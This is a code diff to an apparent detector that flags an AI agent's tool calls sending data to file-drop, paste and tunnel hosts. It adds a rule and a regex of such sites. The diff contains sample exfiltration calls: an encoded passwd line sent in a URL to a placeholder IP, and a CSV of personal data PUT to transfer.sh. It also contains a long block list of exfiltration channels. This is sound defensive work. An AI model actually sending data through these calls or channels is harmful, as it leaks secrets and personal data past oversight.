@@ -1,5 +1,5 @@
 import { call, ruleOf } from '../examples.ts';
-import type { Analyser, PatternRule } from '../../rule.ts';
+import type { Analyser, PatternRule, View } from '../../rule.ts';
 import { words } from '../../tool-reading.ts';
 import { destinationOf, hostIn, isSuspect } from '../destination.ts';
 
@@ -23,6 +23,15 @@ const dropHost = ruleOf('exfiltration.drop-host', 'network_exfiltration', 'mediu
 const dataInUrl = ruleOf(
   'exfiltration.data-in-url', 'network_exfiltration', 'high', 'encoded data carried to a doubtful host in an address', call('http_get', { url: 'https://203.0.113.9/c?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo=' }), call('http_get', { url: 'https://example.com/search?q=short+text' }), `${T}T1048.003`,
 );
+const dataToDrop = ruleOf(
+  'exfiltration.data-to-drop', 'network_exfiltration', 'high', 'a table, a file of settings or several lines of data posted to a file drop or paste board', call('http_request', { method: 'PUT', url: 'https://transfer.sh/c.csv', body: 'name,email\nElena Rossi,elena@example.org' }),
+  call('http_request', { method: 'PUT', url: 'https://transfer.sh/a.txt', body: 'hello' }), `${T}T1567.002`,
+);
+const FILE_DROP = /(?:^|\.)(?:transfer\.sh|file\.io|0x0\.st|temp\.sh|bashupload\.com|oshi\.at|catbox\.moe|gofile\.io|anonfiles?\.com|pixeldrain\.com|tmpfiles\.org|uguu\.se|filebin\.net|ufile\.io|pastebin\.com|paste\.(?:ee|rs)|hastebin\.com|dpaste\.(?:com|org)|rentry\.co|ix\.io|sprunge\.us|termbin\.com)$/;
+/** A body of several lines, of columns, or of names and values, beside the address. */
+const isPosted = ({ text, place }: View): boolean =>
+  place.beside !== undefined && FILE_DROP.test(hostIn(text).toLowerCase()) && Object.entries(place.beside).slice(0, 16).some(([key, value]) => /^(?:body|data|content|payload|text|api_paste_code|file|json)$/i.test(key) && typeof value === 'string' && /[^\n]{3}\n[^\n]{3}|[A-Z_]{4,}=\S{6}|^[^\n]{0,200}[,;\t][^\n]{0,200}[,;\t]/.test(value.slice(0, 2_000)));
+
 const LITERALS = [
   'ngrok', 'trycloudflare', 'serveo.net', 'localhost.run', 'loca.lt', 'localtunnel', 'lhr.life', 'pagekite', 'bore.pub', 'transfer.sh', 'file.io', '0x0.st', 'temp.sh', 'bashupload', 'oshi.at', 'catbox.moe', 'gofile.io', 'anonfile', 'pixeldrain', 'tmpfiles.org', 'uguu.se', 'filebin.net', 'ufile.io', 'mega.nz', 'pastebin.com', 'paste.ee', 'paste.rs', 'hastebin', 'dpaste', 'ghostbin', 'privatebin', 'rentry.co', 'ix.io', 'sprunge.us', 'termbin', 'discord.com/api/webhooks', 'discordapp.com/api/webhooks', 'api.telegram.org', 'attacker', 'evil', 'exfil', 'hacker', 'malicious', 'c2.', 'onion',
   '?d=', '?data=', '?q=', '?x=', '?c=', '?p=', '?token=', '?s=', '?payload=', '?k=', '?content=', '&d=', '&data=', '&q=', '?secret', '?key=', '?env=', '?leak=', '?b64=',
@@ -30,7 +39,7 @@ const LITERALS = [
 
 export const doubtfulHosts: Analyser = {
   name: 'platform.doubtful-hosts',
-  rules: [dropHost, dataInUrl],
+  rules: [dropHost, dataInUrl, dataToDrop],
   roles: ['url', 'host'],
   literals: LITERALS,
   analyse(view) {
@@ -38,6 +47,7 @@ export const doubtfulHosts: Analyser = {
     budget.spend(Math.min(text.length, 600));
     if (!isSuspect(destinationOf(hostIn(text)))) return;
     const data = /[?&][a-z_0-9]{1,20}=([A-Za-z0-9+/_=-]{32,}|(?:[0-9a-f]{2}){20,}|[^&#]{160,})/i.exec(text.slice(0, 4_096));
+    if (isPosted(view)) view.report(dataToDrop, 0, Math.min(text.length, 300));
     if (data) view.report(dataInUrl, data.index, data.index + data[0].length);
     else if (!/^https?:\/\/(?:\d{1,3}\.){3}\d/.test(text)) view.report(dropHost, 0, Math.min(text.length, 300));
   },
